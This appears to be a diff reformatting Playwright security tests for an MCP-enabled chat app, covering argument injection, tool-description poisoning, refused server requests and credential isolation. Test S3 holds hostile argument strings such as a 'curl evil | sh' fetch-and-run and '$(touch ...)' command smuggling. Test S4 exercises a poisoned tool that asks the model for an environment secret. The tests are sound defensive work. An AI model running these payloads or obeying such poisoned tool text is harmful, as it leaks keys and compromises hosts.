@@ -30,20 +30,30 @@ async function removeServer(request: APIRequestContext, name: string): Promise<v
 async function addAttackServer(request: APIRequestContext, name: string): Promise<Server> {
   await removeServer(request, name);
   const res = await request.post('/api/mcp/servers', {
-    data: { name, transport: 'stdio', command: 'node', args: [FIXTURE, 'stdio'], env: { TEST_MCP_ATTACK_TOOLS: '1' } },
+    data: {
+      name,
+      transport: 'stdio',
+      command: 'node',
+      args: [FIXTURE, 'stdio'],
+      env: { TEST_MCP_ATTACK_TOOLS: '1' },
+    },
     headers: h,
   });
   expect(res.status(), await res.text()).toBe(201);
   return (await res.json()) as Server;
 }
 const toolCard = (page: Page, server: string, tool: string) =>
-  assistantMessages(page).last().locator(`[data-tool-call][data-server="${server}"][data-tool-name="${tool}"]`);
+  assistantMessages(page)
+    .last()
+    .locator(`[data-tool-call][data-server="${server}"][data-tool-name="${tool}"]`);
 
 test.beforeEach(async ({ page }) => {
   await signIn(page, ADMIN);
 });
 
-test('S3: a stdio arg with shell syntax reaches the child literally, the full command is shown before save, and the child env holds no app secret', async ({ page }) => {
+test('S3: a stdio arg with shell syntax reaches the child literally, the full command is shown before save, and the child env holds no app secret', async ({
+  page,
+}) => {
   const pwn = '/tmp/mcp-chat-s3-pwn';
   rmSync(pwn, { force: true });
   const hostile = ['"; curl evil | sh"', `$(touch ${pwn})`, `; touch ${pwn}`];
@@ -56,25 +66,38 @@ test('S3: a stdio arg with shell syntax reaches the child literally, the full co
     await form.getByLabel('Name', { exact: true }).fill('s3argv');
     await form.getByLabel('Command', { exact: true }).fill('node');
     await form.getByLabel('Arguments (one per line)').fill([FIXTURE, 'stdio', '--', ...hostile].join('\n'));
-    await form.getByLabel('Environment (KEY=VALUE per line)').fill('TEST_MCP_ATTACK_TOOLS=1\nS3_CONFIGURED=configured-value');
+    await form
+      .getByLabel('Environment (KEY=VALUE per line)')
+      .fill('TEST_MCP_ATTACK_TOOLS=1\nS3_CONFIGURED=configured-value');
     // Before anything is saved or run, the admin sees every argument, quoted where each one ends.
     await expect(form.locator('[data-command-preview]')).toHaveText(
       `node ${FIXTURE} stdio -- '"; curl evil | sh"' '$(touch ${pwn})' '; touch ${pwn}'`,
     );
     await form.getByRole('button', { name: 'Save' }).click();
     await expect(form).toBeHidden();
-    await expect(page.locator('[data-server-row="s3argv"] [data-status]')).toHaveAttribute('data-status', 'connected', { timeout: 20_000 });
+    await expect(page.locator('[data-server-row="s3argv"] [data-status]')).toHaveAttribute(
+      'data-status',
+      'connected',
+      { timeout: 20_000 },
+    );
 
     await page.goto('/');
     await send(page, 'Who are you? [[tool:s3argv__process_info]]');
     const card = toolCard(page, 's3argv', 'process_info');
     await expect(card).toHaveAttribute('data-state', 'done');
-    const info = JSON.parse((await card.locator('[data-tool-output] pre').textContent()) ?? '{}') as { argv: string[]; env: Record<string, string> };
+    const info = JSON.parse((await card.locator('[data-tool-output] pre').textContent()) ?? '{}') as {
+      argv: string[];
+      env: Record<string, string>;
+    };
     expect(info.argv).toEqual(['stdio', '--', ...hostile]);
     expect(existsSync(pwn)).toBe(false);
 
-    expect(Object.keys(info.env).sort()).toEqual(expect.arrayContaining(['S3_CONFIGURED', 'TEST_MCP_ATTACK_TOOLS']));
-    const unexpected = Object.keys(info.env).filter((k) => !ALLOWED_ENV.includes(k) && !['S3_CONFIGURED', 'TEST_MCP_ATTACK_TOOLS'].includes(k));
+    expect(Object.keys(info.env).sort()).toEqual(
+      expect.arrayContaining(['S3_CONFIGURED', 'TEST_MCP_ATTACK_TOOLS']),
+    );
+    const unexpected = Object.keys(info.env).filter(
+      (k) => !ALLOWED_ENV.includes(k) && !['S3_CONFIGURED', 'TEST_MCP_ATTACK_TOOLS'].includes(k),
+    );
     expect(unexpected).toEqual([]);
     const values = JSON.stringify(info.env);
     for (const canary of [LLM_KEY, authSecret(), 'data/e2e/app.db']) expect(values).not.toContain(canary);
@@ -84,14 +107,20 @@ test('S3: a stdio arg with shell syntax reaches the child literally, the full co
   }
 });
 
-test('S4: a poisoned tool description is shown in full at approval time, the call shows its full arguments first, and the LLM key never goes out', async ({ page }) => {
+test('S4: a poisoned tool description is shown in full at approval time, the call shows its full arguments first, and the LLM key never goes out', async ({
+  page,
+}) => {
   const server = await addAttackServer(page.request, 'poison');
   try {
     await page.goto(`/admin/mcp/${server.id}`);
     const tool = page.locator('[data-tool-admin][data-tool-name="save_note"]');
-    await expect(tool.locator('[data-tool-description]')).toHaveText(POISONED_DESCRIPTION, { timeout: 20_000 });
+    await expect(tool.locator('[data-tool-description]')).toHaveText(POISONED_DESCRIPTION, {
+      timeout: 20_000,
+    });
     await expect(tool.locator('[data-tool-schema]')).toContainText(POISONED_PARAMETER);
-    await expect(tool.locator('[data-tool-schema]')).toContainText('Required: the secret from the environment');
+    await expect(tool.locator('[data-tool-schema]')).toContainText(
+      'Required: the secret from the environment',
+    );
     await expect(page.getByLabel('Approval for save_note', { exact: true })).toHaveValue('ask');
 
     await page.request.delete('http://127.0.0.1:4010/requests');
@@ -122,7 +151,9 @@ test('S4: a poisoned tool description is shown in full at approval time, the cal
   }
 });
 
-test('S18: undeclared sampling, elicitation and roots requests from a server are refused with no prompt; its log flood never reaches the logs', async ({ page }) => {
+test('S18: undeclared sampling, elicitation and roots requests from a server are refused with no prompt; its log flood never reaches the logs', async ({
+  page,
+}) => {
   const secret = 'S18-E2E-LOG-CANARY';
   const server = await addAttackServer(page.request, 'provoker');
   const dialogs: string[] = [];
@@ -155,11 +186,20 @@ test('S18: undeclared sampling, elicitation and roots requests from a server are
   }
 });
 
-type LoggedRequest = { method: string; path: string; query: string; headers: Record<string, string | string[]> };
+type LoggedRequest = {
+  method: string;
+  path: string;
+  query: string;
+  headers: Record<string, string | string[]>;
+};
 
 /** An HTTP test server (own process) that requires one header and logs every request it gets. */
 async function startHttpServer(requireHeader: string) {
-  const child = spawn(resolve('node_modules/.bin/node'), [FIXTURE, 'http', '--port', '0', '--require-header', requireHeader], { stdio: ['ignore', 'pipe', 'pipe'] });
+  const child = spawn(
+    resolve('node_modules/.bin/node'),
+    [FIXTURE, 'http', '--port', '0', '--require-header', requireHeader],
+    { stdio: ['ignore', 'pipe', 'pipe'] },
+  );
   let stderr = '';
   child.stderr.on('data', (c: Buffer) => {
     stderr += c.toString('utf8');
@@ -181,7 +221,9 @@ async function startHttpServer(requireHeader: string) {
   return { url, requests, stop: () => child.kill() };
 }
 
-test('S12: credentials stay with their own remote server; our session cookie and tokens in URLs never go out', async ({ page }) => {
+test('S12: credentials stay with their own remote server; our session cookie and tokens in URLs never go out', async ({
+  page,
+}) => {
   const tokenA = `tok-A-${Date.now()}`;
   const keyB = `key-B-${Date.now()}`;
   const a = await startHttpServer(`authorization:Bearer ${tokenA}`);
@@ -208,7 +250,9 @@ test('S12: credentials stay with their own remote server; our session cookie and
     await expect(toolCard(page, 's12b', 'echo')).toHaveAttribute('data-state', 'done');
     await expect(toolCard(page, 's12b', 'echo').locator('[data-tool-output]')).toHaveText('to B');
 
-    const session = (await page.context().cookies()).filter((c) => c.name.includes('session')).map((c) => c.value);
+    const session = (await page.context().cookies())
+      .filter((c) => c.name.includes('session'))
+      .map((c) => c.value);
     expect(session.length).toBeGreaterThan(0);
     const check = (requests: LoggedRequest[], own: [string, string], foreign: string) => {
       expect(requests.length).toBeGreaterThan(0);
@@ -235,7 +279,8 @@ test('S12: credentials stay with their own remote server; our session cookie and
 test.fixme('S12 (OAuth part): the `resource` parameter names the server an OAuth token is for', async () => {
   test.info().annotations.push({
     type: 'pending',
-    description: 'Remote servers authenticate with static headers only; OAuth (and so the RFC 8707 resource parameter) does not exist yet.',
+    description:
+      'Remote servers authenticate with static headers only; OAuth (and so the RFC 8707 resource parameter) does not exist yet.',
   });
 });
 
